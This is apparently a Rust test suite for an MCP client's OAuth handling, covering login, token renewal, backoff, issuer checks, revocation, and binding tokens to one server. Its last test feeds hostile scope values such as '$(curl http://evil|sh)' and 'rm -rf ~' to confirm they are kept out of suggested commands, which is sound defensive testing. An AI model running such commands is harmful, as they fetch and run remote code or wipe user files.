//! Servers that want OAuth: logging in, staying in, and leaving them alone.

mod client_credentials;

use std::collections::BTreeMap;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};

use mcp::connect::credential::{FixedHeaders, MillisClock};
use mcp::connect::{
    Certificates, ConnectError, Credential, Endpoint, KnownRevision, Options, Refusal, Target,
    connect,
};
use mcp::oauth::{Grant, GrantStore, Login, LoginReach, LoginRequest, OAuthCredential, Revoked};
use mcp::revision::Revision;
use testkit::oauth::{Server, TokenEndpointMode};
use tool::{Ask, Call, Client, Context, CredentialHealth, Failure, Json, Provider};

/// Where the grant is kept, and what time it is.
#[derive(Default)]
struct Bench {
    grant: Mutex<Option<Grant>>,
    /// In milliseconds.
    time: AtomicU64,
}

impl GrantStore for Bench {
    fn load(&self) -> Result<Option<Grant>, String> {
        Ok(self.grant.lock().unwrap().clone())
    }

    fn save(&self, grant: &Grant) -> Result<(), String> {
        *self.grant.lock().unwrap() = Some(grant.clone());
        Ok(())
    }
}

struct Stage {
    server: Server,
    bench: Arc<Bench>,
    keeper: Arc<OAuthCredential>,
}

impl Stage {
    async fn new() -> Stage {
        let server = Server::start().await.unwrap();
        let bench = Arc::new(Bench::default());
        bench.time.store(1_000_000_000, Ordering::Relaxed);
        let keep = Arc::clone(&bench) as Arc<dyn GrantStore>;
        let keeper = OAuthCredential::new(
            "run `gatelet login wiki`",
            &server.url(),
            keep,
            now(&bench),
            || 1.0,
        );
        Stage { server, bench, keeper: Arc::new(keeper) }
    }

    fn pass(&self, seconds: u64) {
        self.bench.time.fetch_add(seconds * 1000, Ordering::Relaxed);
    }

    async fn log_in(&self) -> Grant {
        self.log_in_for(&[]).await
    }

    /// Logs in as the shell does, for these scopes beside what there is.
    async fn log_in_for(&self, scopes: &[&str]) -> Grant {
        let granted = self.bench.load().unwrap().map(|grant| grant.scopes).unwrap_or_default();
        let scopes = scopes.iter().map(|&scope| scope.to_owned()).collect();
        let wanted =
            LoginRequest { url: self.server.url(), scopes, granted, ..LoginRequest::default() };
        let login = Login::begin(&wanted, "http://127.0.0.1:9/callback").await.unwrap();
        let callback = browse(login.url()).await;
        let seconds = self.bench.time.load(Ordering::Relaxed) / 1000;
        let grant = login.finish(&callback, seconds).await.unwrap();
        self.bench.save(&grant).unwrap();
        grant
    }

    async fn connect(&self) -> Result<Arc<mcp::connect::Upstream>, ConnectError> {
        enter(&self.server, Arc::clone(&self.keeper) as _).await
    }
}

fn now(bench: &Arc<Bench>) -> MillisClock {
    let bench = Arc::clone(bench);
    Arc::new(move || bench.time.load(Ordering::Relaxed))
}

/// What a browser would do: go where it is sent, and say where it ends up.
async fn browse(url: &str) -> String {
    rustls::crypto::ring::default_provider().install_default().ok();
    let client = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none());
    let response = client.build().unwrap().get(url).send().await.unwrap();
    response.headers()["location"].to_str().unwrap().to_owned()
}

async fn enter(
    server: &Server,
    credential: Arc<dyn Credential>,
) -> Result<Arc<mcp::connect::Upstream>, ConnectError> {
    let endpoint = Endpoint { url: server.url(), ..Endpoint::default() };
    let revision = KnownRevision::Pinned(Revision::V2025_11_25);
    let options = Options { revision, credential: Some(credential), ..Options::default() };
    connect(&Target::Http(endpoint), &options, &Client::named("test", "")).await
}

async fn call(upstream: &Arc<mcp::connect::Upstream>) -> Result<String, Failure> {
    let ask = Ask::Call(Call::new("whoami", Json::empty_object()));
    let reply = upstream.ask(ask, &Context::anonymous()).await?;
    Ok(reply.tool_result().unwrap().text())
}

#[tokio::test]
async fn a_login_leads_to_a_token_for_this_server_alone() {
    let stage = Stage::new().await;
    let grant = stage.log_in().await;
    assert_eq!(grant.resource, stage.server.url());
    assert_eq!(grant.issuer.as_deref(), Some(stage.server.origin.as_str()));
    assert_eq!(grant.client_id, "registered");
    assert_eq!(grant.scopes, ["read"], "what the refusal says is needed, not all there is");
    let form = stage.server.book().form.clone();
    assert_eq!(form["resource"], stage.server.url());
    assert!(form.contains_key("code_verifier"));
    let upstream = stage.connect().await.unwrap();
    assert_eq!(call(&upstream).await.unwrap(), grant.access_token);
    assert_eq!(stage.keeper.credential_health(), CredentialHealth::Fine);
}

#[tokio::test]
async fn a_forged_redirect_gives_nothing() {
    let stage = Stage::new().await;
    let wanted = LoginRequest { url: stage.server.url(), ..LoginRequest::default() };
    for forge in [
        |callback: &str| callback.replace("iss=http", "iss=https"),
        |callback: &str| callback.replace("state=", "state=x"),
        |_: &str| "http://127.0.0.1:9/callback?error=access_denied&state=x".to_owned(),
    ] {
        let login = Login::begin(&wanted, "http://127.0.0.1:9/callback").await.unwrap();
        let callback = browse(login.url()).await;
        assert!(login.finish(&forge(&callback), 0).await.is_err());
    }
    assert_eq!(stage.server.asked("/token"), 0);
}

#[tokio::test]
async fn without_a_login_a_server_is_asked_once_and_the_human_told() {
    let stage = Stage::new().await;
    for _ in 0..20 {
        let error = stage.connect().await.err().unwrap();
        assert_eq!(error.to_string(), "not authorised: run `gatelet login wiki`");
    }
    assert_eq!(stage.server.asked("/mcp"), 1);
    let todo = "run `gatelet login wiki`".to_owned();
    assert_eq!(
        stage.keeper.credential_health(),
        CredentialHealth::NeedsHuman { instruction: todo }
    );
    stage.log_in().await;
    assert!(stage.connect().await.is_ok());
    assert_eq!(stage.keeper.credential_health(), CredentialHealth::Fine);
}

#[tokio::test]
async fn an_old_token_is_renewed_once_for_all_who_wait() {
    let stage = Stage::new().await;
    let first = stage.log_in().await;
    let upstream = stage.connect().await.unwrap();
    let before = stage.server.asked("/token");
    stage.pass(3_590);
    let calls = futures::future::join_all((0..10).map(|_| call(&upstream))).await;
    for token in calls {
        assert_ne!(token.unwrap(), first.access_token);
    }
    assert_eq!(stage.server.asked("/token") - before, 1);
    assert_eq!(stage.server.book().form["resource"], stage.server.url());
    let kept = stage.bench.load().unwrap().unwrap();
    assert_ne!(kept.refresh_token, first.refresh_token);
    assert_eq!(kept.expires_at, Some(1_000_000 + 3_590 + 3_600));
}

#[tokio::test]
async fn a_token_that_was_taken_away_is_renewed_and_the_call_runs_once_more() {
    let stage = Stage::new().await;
    stage.log_in().await;
    let upstream = stage.connect().await.unwrap();
    stage.server.book().good.clear();
    let token = call(&upstream).await.unwrap();
    assert!(stage.server.book().good.contains(&token));
}

#[tokio::test]
async fn a_token_endpoint_that_is_down_is_asked_less_and_less() {
    let stage = Stage::new().await;
    stage.log_in().await;
    let upstream = stage.connect().await.unwrap();
    stage.server.book().mood = TokenEndpointMode::Down;
    stage.pass(4_000);
    let (tokens, guarded) = (stage.server.asked("/token"), stage.server.asked("/mcp"));
    // An hour of a caller who tries every second.
    for _ in 0..3_600 {
        let failure = call(&upstream).await.unwrap_err();
        assert!(matches!(failure, Failure::Unavailable { .. }), "{failure}");
        stage.pass(1);
    }
    let asked = stage.server.asked("/token") - tokens;
    assert!((10..=20).contains(&asked), "asked {asked} times");
    assert_eq!(stage.server.asked("/mcp"), guarded);
    assert!(matches!(stage.keeper.credential_health(), CredentialHealth::Broken { .. }));
    stage.server.book().mood = TokenEndpointMode::Working;
    stage.pass(301);
    assert!(call(&upstream).await.is_ok());
    assert_eq!(stage.keeper.credential_health(), CredentialHealth::Fine);
}

#[tokio::test]
async fn a_dead_grant_is_left_alone_until_somebody_logs_in() {
    let stage = Stage::new().await;
    stage.log_in().await;
    let upstream = stage.connect().await.unwrap();
    stage.server.book().mood = TokenEndpointMode::Rejecting;
    stage.server.book().good.clear();
    let (tokens, guarded) = (stage.server.asked("/token"), stage.server.asked("/mcp"));
    for _ in 0..50 {
        let failure = call(&upstream).await.unwrap_err();
        assert_eq!(failure.to_string(), "not authorised: run `gatelet login wiki`");
        stage.pass(60);
    }
    assert_eq!(
        (stage.server.asked("/token") - tokens, stage.server.asked("/mcp") - guarded),
        (1, 1)
    );
    stage.server.book().mood = TokenEndpointMode::Working;
    let fresh = stage.log_in().await;
    assert_eq!(call(&upstream).await.unwrap(), fresh.access_token);
}

#[tokio::test]
async fn a_grant_is_neither_shown_nor_renewed_once_the_server_names_another_issuer() {
    let stage = Stage::new().await;
    stage.log_in().await;
    let upstream = stage.connect().await.unwrap();
    stage.server.book().issuer = Some("https://other.example".to_owned());
    stage.server.book().good.clear();
    let (tokens, guarded) = (stage.server.asked("/token"), stage.server.asked("/mcp"));
    for _ in 0..3 {
        let told = call(&upstream).await.unwrap_err().to_string();
        assert!(told.contains("another issuer now: run `gatelet login wiki`"), "{told}");
    }
    assert_eq!(stage.server.asked("/token"), tokens, "it is not renewed");
    let bearers = stage.server.asked("/mcp") - guarded;
    assert!(bearers <= 3, "{bearers}");
}

#[tokio::test]
async fn a_grant_of_another_issuer_than_the_operator_names_is_never_shown() {
    let stage = Stage::new().await;
    let grant = stage.log_in().await;
    let keeper = |issuer: &str| {
        let keep = Arc::clone(&stage.bench) as Arc<dyn GrantStore>;
        let todo = "run `gatelet login wiki`";
        let keeper =
            OAuthCredential::new(todo, &stage.server.url(), keep, now(&stage.bench), || 1.0);
        Arc::new(keeper.only_for_issuer(Some(issuer.to_owned())))
    };
    let named = enter(&stage.server, keeper(&format!("{}/", stage.server.origin)) as _).await;
    assert_eq!(call(&named.unwrap()).await.unwrap(), grant.access_token);
    let other = keeper("https://other.example");
    assert_eq!(other.present().await, Ok(None), "nothing is shown");
    let told = enter(&stage.server, other as _).await.err().unwrap().to_string();
    assert!(told.contains("is not of the issuer `https://other.example`"), "{told}");
    let wanted = LoginRequest {
        url: stage.server.url(),
        issuer: Some("https://other.example".to_owned()),
        ..LoginRequest::default()
    };
    let begun = Login::begin(&wanted, "http://127.0.0.1:9/callback").await;
    let told = begun.err().unwrap().to_string();
    assert!(told.contains("the configuration names `https://other.example`"), "{told}");
}

#[tokio::test]
async fn a_login_is_not_led_to_other_ports_of_this_machine() {
    let (stage, other) = (Stage::new().await, Server::start().await.unwrap());
    let elsewhere = other.url().replace("/mcp", "");
    stage.server.book().issuer = Some(elsewhere.clone());
    let begin = async |reach| {
        let wanted = LoginRequest { url: stage.server.url(), reach, ..LoginRequest::default() };
        Login::begin(&wanted, "http://127.0.0.1:9/callback").await
    };
    assert!(begin(LoginReach::default()).await.is_err());
    assert!(other.book().asked.is_empty(), "{:?}", other.book().asked);
    // Unless the operator says so.
    let named = LoginReach::Guarded(vec![elsewhere.parse().unwrap()]);
    assert!(begin(named).await.is_ok());
    assert!(!other.book().asked.is_empty());
}

#[tokio::test]
async fn a_renewed_token_that_never_works_is_not_renewed_for_ever() {
    let stage = Stage::new().await;
    stage.log_in().await;
    let upstream = stage.connect().await.unwrap();
    stage.server.book().good.clear();
    stage.server.book().gives_bad_tokens = true;
    let (tokens, guarded) = (stage.server.asked("/token"), stage.server.asked("/mcp"));
    for _ in 0..20 {
        assert!(matches!(call(&upstream).await, Err(Failure::Unauthorized { .. })));
    }
    // Some refusals may be about the calls; after those it is left alone.
    assert_eq!(
        (stage.server.asked("/token") - tokens, stage.server.asked("/mcp") - guarded),
        (1, 5)
    );
    stage.pass(61);
    stage.server.book().good.insert(stage.bench.load().unwrap().unwrap().access_token);
    assert!(call(&upstream).await.is_ok(), "it is tried again later");
}

#[tokio::test]
async fn a_login_for_more_keeps_what_there_was_and_is_taken_up_at_once() {
    let stage = Stage::new().await;
    stage.log_in().await;
    let upstream = stage.connect().await.unwrap();
    stage.server.book().needs = Some("write".to_owned());
    for _ in 0..3 {
        let failure = call(&upstream).await.unwrap_err();
        let todo = "not authorised: run `gatelet login wiki --scope \"write\"`";
        assert_eq!(failure.to_string(), todo);
    }
    let more = stage.log_in_for(&["write"]).await;
    assert_eq!(stage.server.book().wanted["scope"], "read write");
    assert_eq!(call(&upstream).await.unwrap(), more.access_token);
    assert_eq!(stage.keeper.credential_health(), CredentialHealth::Fine);
}

#[tokio::test]
async fn a_grant_is_given_back_whole() {
    let stage = Stage::new().await;
    let grant = stage.log_in().await;
    let revoked = mcp::oauth::revoke(&grant, &Certificates::default()).await;
    assert_eq!(revoked, Revoked::Done);
    let given = stage.server.book().revoked.clone();
    let refresh = (grant.refresh_token.clone().unwrap(), "refresh_token".to_owned());
    assert_eq!(given, [refresh, (grant.access_token.clone(), "access_token".to_owned())]);
    assert!(stage.server.book().good.is_empty());

    let stranger = Grant { client_id: "stranger".to_owned(), ..grant.clone() };
    let revoked = mcp::oauth::revoke(&stranger, &Certificates::default()).await;
    assert_eq!(revoked, Revoked::Failed("HTTP 401".to_owned()));
    let silent = Grant { revocation_endpoint: None, ..grant };
    let revoked = mcp::oauth::revoke(&silent, &Certificates::default()).await;
    assert_eq!(revoked, Revoked::NotOffered);
}

#[tokio::test]
async fn fixed_headers_that_are_refused_are_tried_again_ever_later() {
    let server = Server::start().await.unwrap();
    let bench = Arc::new(Bench::default());
    let fixed = Arc::new(FixedHeaders::new("change it", now(&bench)));
    // A day of a gatelet that tries every minute.
    for _ in 0..24 * 60 {
        let error = enter(&server, Arc::clone(&fixed) as _).await.err().unwrap();
        assert_eq!(error.to_string(), "not authorised: change it");
        bench.time.fetch_add(60_000, Ordering::Relaxed);
    }
    let asked = server.asked("/mcp");
    assert!(asked < 35, "asked {asked} times");
    server.book().good.insert("t".to_owned());
    bench.time.fetch_add(3_600_000, Ordering::Relaxed);
    let headers = BTreeMap::from([("Authorization".to_owned(), "Bearer t".to_owned())]);
    let endpoint = Endpoint { url: server.url(), headers, ..Endpoint::default() };
    let revision = KnownRevision::Pinned(Revision::V2025_11_25);
    let credential = Some(Arc::clone(&fixed) as Arc<dyn Credential>);
    let options = Options { revision, credential, ..Options::default() };
    connect(&Target::Http(endpoint), &options, &Client::named("test", "")).await.unwrap();
    assert_eq!(fixed.credential_health(), CredentialHealth::Fine);
}

#[tokio::test]
async fn a_server_that_refuses_one_call_is_still_asked_the_next() {
    let bench = Arc::new(Bench::default());
    let keeper = OAuthCredential::new(
        "log in",
        "https://wiki.example/mcp",
        Arc::clone(&bench) as _,
        now(&bench),
        || 1.0,
    );
    let fixed = FixedHeaders::new("change it", now(&bench));
    let refusal = Refusal { status: http::StatusCode::UNAUTHORIZED, challenge: None };
    for credential in [&keeper as &dyn Credential, &fixed] {
        credential.accepted();
        assert!(credential.refused(None, &refusal).await.is_err());
        assert_eq!(credential.present().await, Ok(None));
        assert_eq!(credential.credential_health(), CredentialHealth::Fine);
        for _ in 0..5 {
            assert!(credential.refused(None, &refusal).await.is_err());
        }
        assert!(credential.present().await.is_err(), "so often that it is about us");
        assert!(matches!(credential.credential_health(), CredentialHealth::NeedsHuman { .. }));
        bench.time.fetch_add(3_600_000, Ordering::Relaxed);
        assert_eq!(credential.present().await, Ok(None));
    }
}

#[tokio::test]
async fn a_token_is_shown_only_to_the_server_that_was_logged_in_to() {
    let stage = Stage::new().await;
    let grant = stage.log_in().await;
    let credential = |server: &str| {
        let keep = Arc::clone(&stage.bench) as Arc<dyn GrantStore>;
        let todo = "run `gatelet login wiki`";
        OAuthCredential::new(todo, server, keep, now(&stage.bench), || 1.0)
    };
    let ours = credential(&format!("{}?a=b#c", stage.server.url()));
    assert!(ours.present().await.unwrap().is_some());
    let other = stage.server.url().replace("127.0.0.1", "localhost");
    let refusal = Refusal { status: http::StatusCode::UNAUTHORIZED, challenge: None };
    for server in ["https://evil.example/mcp", &other, &format!("{}/x", stage.server.url()), ""] {
        let stranger = credential(server);
        assert_eq!(stranger.present().await, Ok(None), "{server}");
        let told = stranger.refused(None, &refusal).await.unwrap_err().to_string();
        assert!(told.contains("its token is for"), "{told}");
        assert!(told.contains("run `gatelet login wiki`"), "{told}");
    }
    // What was kept before grants were bound is not used either.
    stage.bench.save(&Grant { server: String::new(), ..grant }).unwrap();
    let unbound = credential(&stage.server.url());
    assert_eq!(unbound.present().await, Ok(None));
    let told = unbound.refused(None, &refusal).await.unwrap_err().to_string();
    assert!(told.contains("does not say which server it is for"), "{told}");
}

#[tokio::test]
async fn what_a_server_calls_a_scope_is_no_part_of_a_command_unless_it_is_plain() {
    let stage = Stage::new().await;
    stage.log_in().await;
    for (scope, shown) in [
        ("read write:all", Some("run `gatelet login wiki --scope \"read write:all\"`")),
        ("$(curl http://evil|sh)", None),
        ("`id`", None),
        ("a' ; rm -rf ~ '", None),
        ("--as", None),
    ] {
        let challenge = format!(r#"Bearer error="insufficient_scope", scope="{scope}""#);
        let refusal = Refusal { status: http::StatusCode::FORBIDDEN, challenge: Some(challenge) };
        let failure = stage.keeper.refused_again(None, &refusal);
        let Failure::Unauthorized { reason, .. } = failure else { panic!("{failure}") };
        match shown {
            Some(shown) => assert_eq!(reason, shown),
            None => assert!(!reason.contains(scope), "{reason}"),
        }
        let fixed = FixedHeaders::new("change it", now(&stage.bench));
        let told = fixed.refused_again(None, &refusal).to_string();
        assert_eq!(told.contains(scope), shown.is_some(), "{told}");
    }
}
